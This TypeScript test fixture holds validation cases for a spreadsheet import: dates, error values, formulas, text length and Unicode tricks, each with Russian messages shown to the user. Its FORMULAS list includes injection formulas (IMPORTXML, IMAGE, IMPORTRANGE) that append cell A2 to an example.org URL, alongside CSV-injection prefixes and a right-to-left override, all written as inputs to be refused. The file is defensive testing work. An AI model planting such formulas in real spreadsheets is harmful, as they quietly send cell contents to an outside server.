/** Faults of cells where a date, a text or a word of a list belongs, C04 to C19, with what a person is told. */
import { AS_OF } from '../domain/rows.ts';
import { type CellFault, error, kept, note, refused, warning } from './cell-fault.ts';

const WRITE_A_DATE = 'Введите дату как день.месяц.год: 01.03.2024.';

const notADate = (found: string) => error('NOT_A_DATE', `«${found}» — это не дата.`, WRITE_A_DATE);
const outOfRange = (found: string) =>
  error('DATE_OUT_OF_RANGE', `Дата ${found} вне пределов: нужны годы с 2000 по 2099.`, WRITE_A_DATE);
const inFuture = (read: string) =>
  error('DATE_IN_FUTURE', `Дата ${read} ещё не наступила.`, 'Введите дату не позже сегодняшней.');
const dateFromText = (read: string) =>
  note('DATE_FROM_TEXT', `Дата записана текстом, прочитана как ${read}.`, 'Делать ничего не нужно.');
const errorValue = (found: string) =>
  error('ERROR_VALUE', `В ячейке ошибка «${found}» вместо значения.`, 'Введите само значение.');
const formula = error('FORMULA', 'В ячейке формула, а нужно значение.', 'Введите само значение вместо формулы.');
const textExpected = (found: string) =>
  error(
    'TEXT_EXPECTED',
    `В ячейке число ${found}, а нужен текст.`,
    'Введите текст; если это дата или код, задайте ячейке формат «Обычный текст».',
  );
const yesOrNo = (found: string) =>
  error('NOT_IN_LIST', `Значения «${found}» нет в списке.`, 'Выберите из списка: Да; Нет.');
const control = (character: string, position: number) =>
  error(
    'CONTROL_CHARACTER',
    `В тексте невидимый служебный знак ${character} на месте ${position}.`,
    'Сотрите текст и наберите его заново.',
  );
const length = (found: number, min: number, max: number) =>
  error(
    'TEXT_LENGTH',
    `Длина текста — ${found}, а нужно от ${min} до ${max} знаков.`,
    found < min ? 'Напишите полнее.' : 'Сократите текст.',
  );
const mixed = (word: string) =>
  warning(
    'MIXED_SCRIPT',
    `В слове «${word}» смешаны русские и латинские буквы.`,
    'Если это не так задумано, наберите слово заново.',
  );
const combining = (character: string, position: number) =>
  warning(
    'COMBINING_MARK',
    `В тексте надстрочный знак ${character} на месте ${position}.`,
    'Если это не так задумано, наберите слово заново.',
  );

const FORMULAS = [
  '=1+1',
  '=IMPORTXML("https://example.org/?"&A2;"//a")',
  '=IMAGE("https://example.org/?"&A2)',
  '=IMPORTRANGE("https://example.org";"A1")',
  '=HYPERLINK("https://example.org";"да")',
];

export const DATE_FAULTS: readonly CellFault[] = [
  kept('C04', 'a plain number that is a date', 'clusters', { statusDate: 45_658 }, 45_658),
  refused('C04', 'a number before every date', 'clusters', { statusDate: 5 }, outOfRange('5')),
  refused('C04', 'a number that was meant to be read', 'clusters', { statusDate: 20_240_301 }, outOfRange('20240301')),
  refused('C04', 'a number behind every date', 'jointProjects', { endDate: 73_051 }, outOfRange('73051')),
  kept('C04', 'the last number that is a date', 'jointProjects', { endDate: 73_050 }, 73_050),
  ...['31.02.2026', '2026-02-30', '32.01.2024', '01.13.2024', 'март 2024', '01/03/2024'].map((text) =>
    refused('C05', `«${text}»`, 'clusters', { statusDate: text }, notADate(text)),
  ),
  refused(
    'C05',
    'a year of two digits',
    'clusters',
    { statusDate: '01.03.24' },
    error('TWO_DIGIT_YEAR', 'В дате «01.03.24» год из двух цифр.', 'Введите год полностью: 01.03.2024.'),
  ),
  refused('C05', 'a date before 2000', 'participants', { joinedOn: '31.12.1999' }, outOfRange('31.12.1999')),
  refused('C05', 'a date after 2099', 'jointProjects', { endDate: '01.01.2100' }, outOfRange('01.01.2100')),
  refused('C05', 'tomorrow where today is the last', 'clusters', { statusDate: AS_OF + 1 }, inFuture('24.11.2026')),
  refused(
    'C05',
    'tomorrow as text',
    'participants',
    { joinedOn: '24.11.2026' },
    dateFromText('24.11.2026'),
    inFuture('24.11.2026'),
  ),
  kept('C05', 'today', 'clusters', { statusDate: AS_OF }, AS_OF),
  kept('C05', 'a project that ends in the future', 'jointProjects', { endDate: 55_000 }, 55_000),
  kept('C05', 'a date as text', 'clusters', { statusDate: '01.03.2024' }, 45_352, dateFromText('01.03.2024')),
  kept('C05', 'a date as ISO 8601', 'supportMeasures', { date: '2024-03-01' }, 45_352, dateFromText('01.03.2024')),
  kept('C06', 'a date with an hour', 'clusters', { statusDate: 45_400.75 }, 45_400),
  kept('C06', 'the last second of today', 'clusters', { statusDate: AS_OF + 86_399 / 86_400 }, AS_OF),
  kept('C06', 'the first second of a day', 'jointProjects', { startDate: 45_100 + 1 / 86_400 }, 45_100),
  refused('C07', 'a truth where a date belongs', 'clusters', { statusDate: true }, notADate('TRUE')),
];

export const TEXT_FAULTS: readonly CellFault[] = [
  refused('C07', 'a truth where «Да» or «Нет» belongs', 'clusters', { easedThreshold: true }, yesOrNo('TRUE')),
  refused('C07', 'a truth where a text belongs', 'jointProjects', { product: true }, textExpected('TRUE')),
  refused('C07', 'a number where a text belongs', 'jointProjects', { product: 45_658 }, textExpected('45658')),
  ...['#REF!', '#DIV/0!', '#N/A', '#VALUE!', 'Loading...'].flatMap((found) => [
    refused(
      'C08',
      `${found} where a number belongs`,
      'jointProjects',
      { costRubles: { error: found } },
      errorValue(found),
    ),
    refused('C08', `${found} where a text belongs`, 'clusters', { name: { error: found } }, errorValue(found)),
    refused('C09', `${found} typed where a number belongs`, 'jointProjects', { costRubles: found }, errorValue(found)),
    refused('C09', `${found} typed where a text belongs`, 'participants', { name: found }, errorValue(found)),
  ]),
  refused('C09', '#Н/Д typed in Russian', 'clusters', { statusDate: '#Н/Д' }, errorValue('#Н/Д')),
  refused('C09', '#ССЫЛКА! typed in Russian', 'participants', { taxId: '#ССЫЛКА!' }, errorValue('#ССЫЛКА!')),
  ...FORMULAS.map((text) => refused('C10', text, 'clusters', { name: { formula: text } }, formula)),
  refused('C10', 'a formula where a number belongs', 'jointProjects', { costRubles: { formula: '=1+1' } }, formula),
  refused('C10', 'a formula where a date belongs', 'clusters', { statusDate: { formula: '=TODAY()' } }, formula),
  refused('C10', 'a formula where a code belongs', 'participants', { taxId: { formula: '=A1' } }, formula),
  refused(
    'C10',
    'a formula in a column that may stay empty',
    'supportMeasures',
    { comment: { formula: '=A1' } },
    formula,
  ),
  refused('C11', 'a text that begins with =', 'participants', { name: '=Завод' }, formula),
  ...['+Завод', '-Завод', '@Завод', '＝Завод', '＋Завод', '－Завод', '＠Завод', 'Завод\r=1'].map((text) =>
    kept('C11', `a text like ${JSON.stringify(text)}`, 'participants', { name: text }, text),
  ),
  kept('C11', 'a text behind a tab', 'participants', { name: '\tЗавод' }, 'Завод'),
  refused('C11', 'a text with NUL', 'participants', { name: 'За\u0000вод' }, control('U+0000', 3)),
  refused('C17', 'a name of 50 000 letters', 'clusters', { name: 'к'.repeat(50_000) }, length(50_000, 5, 200)),
  refused('C17', 'a name of four letters', 'clusters', { name: 'Цирк' }, length(4, 5, 200)),
  refused('C17', 'a status of 1 001 letters', 'clusters', { status: 'к'.repeat(1001) }, length(1001, 0, 1000)),
  kept(
    'C19',
    'a Latin letter in a Russian word',
    'participants',
    { name: 'Завод КAМАЗ' },
    'Завод КAМАЗ',
    mixed('КAМАЗ'),
  ),
  kept('C19', 'a whole word in Latin letters', 'participants', { name: 'Завод KAMAZ' }, 'Завод KAMAZ'),
  kept('C19', 'an accent', 'participants', { name: 'За\u0301вод' }, 'За\u0301вод', combining('U+0301', 3)),
  kept('C19', 'й of two characters', 'participants', { name: 'Стальнои\u0306 завод' }, 'Стальной завод'),
  refused('C19', 'text from right to left', 'participants', { name: 'Завод \u202Eдовaз' }, control('U+202E', 7)),
  refused('C19', 'the first half of a surrogate pair', 'participants', { name: 'Завод \uD83D' }, control('U+D83D', 7)),
  refused('C19', 'the second half of a surrogate pair', 'participants', { name: '\uDC00Завод' }, control('U+DC00', 1)),
];
